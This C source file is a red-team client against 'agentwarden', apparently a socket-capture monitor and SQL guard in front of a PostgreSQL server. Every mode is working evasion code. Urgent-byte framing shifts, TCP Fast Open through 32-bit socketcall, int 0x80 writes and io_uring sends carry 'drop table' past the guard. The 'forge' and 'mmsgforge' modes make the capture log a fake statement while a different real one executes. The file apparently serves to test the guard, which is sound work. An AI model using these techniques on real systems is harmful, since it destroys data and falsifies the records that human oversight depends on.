// Red-team client for agentwarden's socket capture / SQL guard (default mode).
// usage: rt PORT DB MODE ARG...
//   oob64 TABLE | oob32 TABLE | oobur TABLE   two urgent bytes shift the server's framing (drop table)
//   tfo32 TABLE     TCP Fast Open startup+drop in one 32-bit socketcall sendto(MSG_FASTOPEN)
//   plain32 MARK    select 'MARK' written with int 0x80 write()
//   uring MARK      select 'MARK' sent with IORING_OP_SEND
//   uconnect PATH   connect a Unix stream socket to PATH with IORING_OP_CONNECT (prints the result)
//   forge REAL FAKE  REAL statement sent by a linked io_uring SEND run as task_work at the exit of
//                    write(pipe, FAKE): the capture reads write()'s registers and records FAKE
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <linux/io_uring.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <unistd.h>

static int port;
static const char *db;

static size_t msg(char *out, char kind, const void *body, size_t n)
{
    out[0] = kind;
    uint32_t l = htonl(4 + n);
    memcpy(out + 1, &l, 4);
    memcpy(out + 5, body, n);
    return 5 + n;
}

static size_t query(char *out, const char *sql) { return msg(out, 'Q', sql, strlen(sql) + 1); }

static size_t startup(char *out)
{
    char params[256];
    size_t n = 0;
    n += sprintf(params + n, "user") + 1;
    n += sprintf(params + n, "postgres") + 1;
    n += sprintf(params + n, "database") + 1;
    n += sprintf(params + n, "%s", db) + 1;
    params[n++] = 0;
    uint32_t l = htonl(8 + n), v = htonl(0x00030000);
    memcpy(out, &l, 4);
    memcpy(out + 4, &v, 4);
    memcpy(out + 8, params, n);
    return 8 + n;
}

// read server messages until `readies` ReadyForQuery or 4 s; print errors; return Zs seen
static int answers(int s, int readies)
{
    static char buf[1 << 16];
    size_t have = 0;
    int z = 0;
    struct timeval tv = {4, 0};
    setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
    while (z < readies) {
        ssize_t r = recv(s, buf + have, sizeof(buf) - have, 0);
        if (r <= 0) {
            printf("recv ended: %zd %s\n", r, r < 0 ? strerror(errno) : "eof");
            break;
        }
        have += r;
        size_t p = 0;
        while (have - p >= 5) {
            uint32_t l;
            memcpy(&l, buf + p + 1, 4);
            l = ntohl(l);
            if (have - p < 1 + l)
                break;
            char k = buf[p];
            if (k == 'Z')
                z++;
            if (k == 'E') {
                printf("server error:");
                for (size_t i = p + 5; i < p + 1 + l; i++)
                    if (buf[i] == 'M')
                        printf(" %s", buf + i + 1), i = p + 1 + l;
                    else
                        i += strlen(buf + i + 1) + 1;
                printf("\n");
            }
            if (k == 'C')
                printf("server: complete %s\n", buf + p + 5);
            if (k == 'D')
                printf("server: row\n");
            p += 1 + l;
        }
        memmove(buf, buf + p, have - p);
        have -= p;
    }
    printf("readies %d\n", z);
    return z;
}

static int pg_connect(void)
{
    int s = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(port)};
    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    if (connect(s, (void *)&a, sizeof(a)) != 0) {
        perror("connect");
        exit(1);
    }
    int one = 1;
    setsockopt(s, IPPROTO_TCP, TCP_NODELAY, &one, sizeof(one));
    char b[512];
    size_t n = startup(b);
    if (write(s, b, n) != (ssize_t)n) {
        perror("startup");
        exit(1);
    }
    if (answers(s, 1) != 1) {
        printf("failed startup\n");
        exit(1);
    }
    return s;
}

static long int80(long nr, long a, long b, long c)
{
    long r;
    asm volatile("int $0x80" : "=a"(r) : "a"(nr), "b"(a), "c"(b), "d"(c) : "memory", "r8", "r9", "r10", "r11");
    return r;
}

static char *low;   // memory below 4 GiB for 32-bit calls
static void *lowcopy(const void *p, size_t n)
{
    static size_t used;
    void *d = low + used;
    memcpy(d, p, n);
    used += (n + 15) & ~15;
    return d;
}

// 32-bit socketcall(SYS_SENDTO=11, {fd, buf, len, flags, addr, addrlen})
static long send32(int fd, const void *buf, size_t n, int flags, const void *addr, int alen)
{
    uint32_t *args = lowcopy((uint32_t[6]){0}, 24);
    args[0] = fd;
    args[1] = (uint32_t)(uintptr_t)lowcopy(buf, n);
    args[2] = n;
    args[3] = flags;
    args[4] = addr ? (uint32_t)(uintptr_t)lowcopy(addr, alen) : 0;
    args[5] = alen;
    return int80(102, 11, (long)(uintptr_t)args, 0);
}

// ---- io_uring, raw ----
struct ring {
    int fd;
    unsigned *sq_tail, *sq_mask, *sq_array, *cq_head, *cq_tail, *cq_mask;
    struct io_uring_sqe *sqes;
    struct io_uring_cqe *cqes;
};

static void ring_init(struct ring *r, unsigned flags)
{
    struct io_uring_params p = {.flags = flags};
    r->fd = syscall(__NR_io_uring_setup, 8, &p);
    if (r->fd < 0) {
        perror("io_uring_setup");
        exit(1);
    }
    size_t sqsz = p.sq_off.array + p.sq_entries * 4, cqsz = p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe);
    char *sq = mmap(0, sqsz, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, r->fd, IORING_OFF_SQ_RING);
    char *cq = mmap(0, cqsz, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, r->fd, IORING_OFF_CQ_RING);
    r->sqes = mmap(0, p.sq_entries * sizeof(struct io_uring_sqe), PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE,
                   r->fd, IORING_OFF_SQES);
    r->sq_tail = (void *)(sq + p.sq_off.tail);
    r->sq_mask = (void *)(sq + p.sq_off.ring_mask);
    r->sq_array = (void *)(sq + p.sq_off.array);
    r->cq_head = (void *)(cq + p.cq_off.head);
    r->cq_tail = (void *)(cq + p.cq_off.tail);
    r->cq_mask = (void *)(cq + p.cq_off.ring_mask);
    r->cqes = (void *)(cq + p.cq_off.cqes);
}

static struct io_uring_sqe *sqe_get(struct ring *r)
{
    unsigned t = *r->sq_tail, i = t & *r->sq_mask;
    struct io_uring_sqe *e = &r->sqes[i];
    memset(e, 0, sizeof(*e));
    r->sq_array[i] = i;
    __atomic_store_n(r->sq_tail, t + 1, __ATOMIC_RELEASE);
    return e;
}

static int ring_enter(struct ring *r, unsigned submit, unsigned wait)
{
    return syscall(__NR_io_uring_enter, r->fd, submit, wait, wait ? IORING_ENTER_GETEVENTS : 0, 0, 0);
}

static void reap(struct ring *r, int n)
{
    for (int k = 0; k < n; k++) {
        while (__atomic_load_n(r->cq_tail, __ATOMIC_ACQUIRE) == *r->cq_head)
            ring_enter(r, 0, 1);
        struct io_uring_cqe *c = &r->cqes[*r->cq_head & *r->cq_mask];
        printf("cqe user_data=%llu res=%d\n", (unsigned long long)c->user_data, c->res);
        __atomic_store_n(r->cq_head, *r->cq_head + 1, __ATOMIC_RELEASE);
    }
}

static void uring_send(struct ring *r, int s, const void *buf, size_t n, int flags)
{
    struct io_uring_sqe *e = sqe_get(r);
    e->opcode = IORING_OP_SEND;
    e->fd = s;
    e->addr = (uintptr_t)buf;
    e->len = n;
    e->msg_flags = flags;
    e->user_data = 1;
    ring_enter(r, 1, 0);
    reap(r, 1);
}

static void *idle_thread(void *arg)
{
    for (;;)
        pause();
    return arg;
}

// the two-urgent-byte shift of tests/test_guard_splits.py oob_shift(q, 2)
static int oob_sends(const char *table, char sends[3][512], size_t lens[3])
{
    char sql[256], q[300];
    snprintf(sql, sizeof sql, "drop table %s", table);
    size_t qn = query(q, sql);
    int a = 10, k = 2, n = (a + 1) * k;
    char *s0 = sends[0];
    s0[0] = 'd';
    uint32_t l = htonl(4 + n);
    memcpy(s0 + 1, &l, 4);
    memset(s0 + 5, 'x', a);
    s0[5 + a] = '!';
    lens[0] = 5 + a + 1;
    memset(sends[1], 'x', a);
    sends[1][a] = '!';
    lens[1] = a + 1;
    sends[2][0] = 'd';
    memset(sends[2] + 1, 0, k - 1);
    memcpy(sends[2] + k, q, qn);
    lens[2] = k + qn;
    return 3;
}

int main(int argc, char **argv)
{
    setvbuf(stdout, 0, _IONBF, 0);
    if (argc < 5) {
        fprintf(stderr, "usage: rt PORT DB MODE ARG...\n");
        return 2;
    }
    port = atoi(argv[1]);
    db = argv[2];
    const char *mode = argv[3];
    low = mmap(0, 1 << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
    char b[4096], f[4096];

    if (!strncmp(mode, "oob", 3)) {
        int s = pg_connect();
        char sends[3][512];
        size_t lens[3];
        oob_sends(argv[4], sends, lens);
        struct ring r;
        if (!strcmp(mode, "oobur"))
            ring_init(&r, 0);
        for (int i = 0; i < 3; i++) {
            int fl = i < 2 ? MSG_OOB : 0;
            long ret;
            if (!strcmp(mode, "oob64"))
                ret = send(s, sends[i], lens[i], fl);
            else if (!strcmp(mode, "oob32"))
                ret = send32(s, sends[i], lens[i], fl, 0, 0);
            else {
                uring_send(&r, s, sends[i], lens[i], fl);
                ret = 0;
            }
            printf("send %d flags %d: %ld\n", i, fl, ret);
            usleep(50000);
        }
        answers(s, 1);
        return 0;
    }
    if (!strcmp(mode, "tfo32")) {
        size_t n = startup(b);
        char sql[256];
        snprintf(sql, sizeof sql, "drop table %s", argv[4]);
        n += query(b + n, sql);
        int s = socket(AF_INET, SOCK_STREAM, 0);
        struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(port)};
        a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
        long ret = send32(s, b, n, MSG_FASTOPEN, &a, sizeof(a));
        printf("32-bit sendto(MSG_FASTOPEN): %ld\n", ret);
        answers(s, 2);
        return 0;
    }
    if (!strcmp(mode, "plain32")) {
        int s = pg_connect();
        char sql[256];
        snprintf(sql, sizeof sql, "select '%s'", argv[4]);
        size_t n = query(b, sql);
        long ret = int80(4, s, (long)(uintptr_t)lowcopy(b, n), n);
        printf("int 0x80 write: %ld\n", ret);
        answers(s, 1);
        return 0;
    }
    if (!strcmp(mode, "uring")) {
        int s = pg_connect();
        char sql[256];
        snprintf(sql, sizeof sql, "select '%s'", argv[4]);
        size_t n = query(b, sql);
        struct ring r;
        ring_init(&r, 0);
        uring_send(&r, s, b, n, 0);
        answers(s, 1);
        return 0;
    }
    if (!strcmp(mode, "uconnect")) {   // from a process of two threads: the file's extra reference
        pthread_t idle;                 // is then what connect()'s own would be (io_uring's request)
        pthread_create(&idle, 0, idle_thread, 0);
        int s = socket(AF_UNIX, SOCK_STREAM, 0);
        struct sockaddr_un sa = {.sun_family = AF_UNIX};
        strncpy(sa.sun_path, argv[4], sizeof sa.sun_path - 1);
        struct ring r;
        ring_init(&r, 0);
        struct io_uring_sqe *e = sqe_get(&r);
        e->opcode = IORING_OP_CONNECT;
        e->fd = s;
        e->addr = (uintptr_t)&sa;
        e->off = sizeof sa;
        e->user_data = 1;
        ring_enter(&r, 1, 0);
        reap(&r, 1);
        return 0;
    }
    if (!strcmp(mode, "forge")) {
        int s = pg_connect();
        size_t n = query(b, argv[4]), fn = query(f, argv[5]);
        if (fn != n) {
            fprintf(stderr, "REAL and FAKE must be the same length (%zu vs %zu)\n", n, fn);
            return 2;
        }
        int p[2];
        pipe(p);
        struct ring r;
        ring_init(&r, 0);
        static char one[1];
        struct io_uring_sqe *e = sqe_get(&r);   // a read of the empty pipe: armed for poll
        e->opcode = IORING_OP_READ;
        e->fd = p[0];
        e->addr = (uintptr_t)one;
        e->len = 1;
        e->flags = IOSQE_IO_LINK;
        e->user_data = 1;
        e = sqe_get(&r);                        // the real statement, sent once the read completes
        e->opcode = IORING_OP_SEND;
        e->fd = s;
        e->addr = (uintptr_t)b;
        e->len = n;
        e->user_data = 2;
        printf("submitted %d\n", ring_enter(&r, 2, 0));
        usleep(100000);
        // the read completes inside this write: the linked send runs as task_work at its exit,
        // with write(p[1], f, n) in the registers
        printf("write(pipe): %zd\n", write(p[1], f, n));
        reap(&r, 2);
        answers(s, 1);
        return 0;
    }
    if (!strcmp(mode, "mmsgforge")) {
        // call 1 leaves the per-thread cursor at message 2 of `vec` (its 3rd message faults);
        // call 2 with the same vector sends only vec[0] (REAL, vec[1] faults) and the capture
        // reads vec[2] (FAKE, never sent)
        int s = pg_connect();
        static char x[64], y[64];
        size_t xn = query(x, "select 'X'"), yn = query(y, "select 'Y'");
        size_t n = query(b, argv[4]), fn = query(f, argv[5]);
        if (fn != n) { fprintf(stderr, "same length please\n"); return 2; }
        static struct mmsghdr vec[3];
        static struct iovec iov[3];
        memset(vec, 0, sizeof vec);
        iov[0] = (struct iovec){x, xn};
        iov[1] = (struct iovec){y, yn};
        vec[0].msg_hdr.msg_iov = &iov[0]; vec[0].msg_hdr.msg_iovlen = 1;
        vec[1].msg_hdr.msg_iov = &iov[1]; vec[1].msg_hdr.msg_iovlen = 1;
        vec[2].msg_hdr.msg_iov = (void *)8; vec[2].msg_hdr.msg_iovlen = 1;   // EFAULT
        printf("sendmmsg 1: %d\n", sendmmsg(s, vec, 3, 0));
        answers(s, 2);
        iov[0] = (struct iovec){b, n};
        iov[2] = (struct iovec){f, fn};
        vec[0].msg_hdr.msg_iov = &iov[0];
        vec[1].msg_hdr.msg_iov = (void *)8;                                   // EFAULT
        vec[2].msg_hdr.msg_iov = &iov[2]; vec[2].msg_hdr.msg_iovlen = 1;
        printf("sendmmsg 2: %d\n", sendmmsg(s, vec, 3, 0));
        answers(s, 1);
        return 0;
    }
    fprintf(stderr, "unknown mode\n");
    return 2;
}
